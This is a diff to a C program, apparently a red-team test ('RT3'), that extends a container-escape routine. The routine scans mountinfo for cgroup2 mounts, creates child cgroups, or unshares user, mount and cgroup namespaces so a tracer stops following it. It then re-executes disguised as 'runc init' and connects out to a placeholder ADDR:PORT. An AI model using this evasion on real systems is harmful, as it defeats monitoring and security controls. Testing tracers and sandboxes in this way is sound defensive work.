@@ -4,7 +4,7 @@
 // As the step's first process (no arguments) it first tries to leave its
 // container cgroup: a cgroup namespace and cgroup2 mount of its own inside
 // a new user namespace, else a child cgroup in the container's
-// /sys/fs/cgroup; it reports each attempt. Then it forks a child that
+// cgroup2 mounts (its /proc/self/mountinfo); it reports each attempt. Then it forks a child that
 // re-executes this program as argv ["runc", "init"] (an ordinary fork+exec:
 // the child is in its parent's mount namespace, like runc's own re-exec),
 // which connects to ADDR:PORT, sends an HTTP request and writes
@@ -37,22 +37,44 @@ static int writefile(const char *path, const char *s)
 	return n < 0 ? -1 : 0;
 }
 
+// tryCgroup makes a child cgroup below dir and moves this process into
+// it; 0 when it got there.
+static int tryCgroup(const char *dir, const char *pid)
+{
+	char sub[512], procs[600];
+	snprintf(sub, sizeof sub, "%s/rt3-escape", dir);
+	snprintf(procs, sizeof procs, "%s/cgroup.procs", sub);
+	if (mkdir(sub, 0755) != 0 && errno != EEXIST) {
+		printf("RT3 ESCAPE %s mkdir: %s\n", dir, strerror(errno));
+		return -1;
+	}
+	if (writefile(procs, pid) != 0) {
+		printf("RT3 ESCAPE %s move: %s\n", dir, strerror(errno));
+		return -1;
+	}
+	printf("RT3 ESCAPE %s ok\n", dir);
+	return 0;
+}
+
 // escape moves this process into a cgroup below its container's, which
 // the tracer does not follow; 0 when it got there.
 static int escape(void)
 {
 	char pid[32];
 	snprintf(pid, sizeof pid, "%d\n", getpid());
-	// 1. A child cgroup through the container's own cgroup2 mount.
-	if (mkdir("/sys/fs/cgroup/rt3-escape", 0755) == 0 || errno == EEXIST) {
-		if (writefile("/sys/fs/cgroup/rt3-escape/cgroup.procs", pid) == 0) {
-			printf("RT3 ESCAPE child-cgroup ok\n");
+	// 1. A child cgroup through every cgroup2 mount the container has.
+	FILE *mi = fopen("/proc/self/mountinfo", "r");
+	char line[1024];
+	while (mi && fgets(line, sizeof line, mi)) {
+		if (!strstr(line, "cgroup"))
+			continue;
+		printf("RT3 MOUNT %s", line);
+		char mp[512];
+		if (strstr(line, " - cgroup2 ") && sscanf(line, "%*s %*s %*s %*s %511s", mp) == 1 && tryCgroup(mp, pid) == 0)
 			return 0;
-		}
-		printf("RT3 ESCAPE child-cgroup move: %s\n", strerror(errno));
-	} else {
-		printf("RT3 ESCAPE child-cgroup mkdir: %s\n", strerror(errno));
 	}
+	if (mi)
+		fclose(mi);
 	// 2. A user namespace (root inside), its own mount and cgroup
 	// namespaces, a fresh cgroup2 mount, a child cgroup there.
 	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
@@ -64,16 +86,7 @@ static int escape(void)
 		printf("RT3 ESCAPE mount cgroup2: %s\n", strerror(errno));
 		return -1;
 	}
-	if (mkdir("/tmp/rt3cg/rt3-escape", 0755) != 0 && errno != EEXIST) {
-		printf("RT3 ESCAPE userns mkdir: %s\n", strerror(errno));
-		return -1;
-	}
-	if (writefile("/tmp/rt3cg/rt3-escape/cgroup.procs", pid) != 0) {
-		printf("RT3 ESCAPE userns move: %s\n", strerror(errno));
-		return -1;
-	}
-	printf("RT3 ESCAPE userns-cgroup ok\n");
-	return 0;
+	return tryCgroup("/tmp/rt3cg", pid);
 }
 
 static int hidden(const char *addr, int port)
